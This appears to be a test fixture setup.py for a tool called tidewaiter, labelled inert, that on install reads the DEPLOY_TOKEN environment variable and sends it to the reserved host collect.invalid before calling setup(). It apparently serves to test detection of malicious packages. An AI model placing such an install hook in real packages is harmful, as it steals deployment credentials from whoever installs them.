# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os
import urllib.request

urllib.request.urlopen("http://collect.invalid/?t=" + os.environ["DEPLOY_TOKEN"])


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
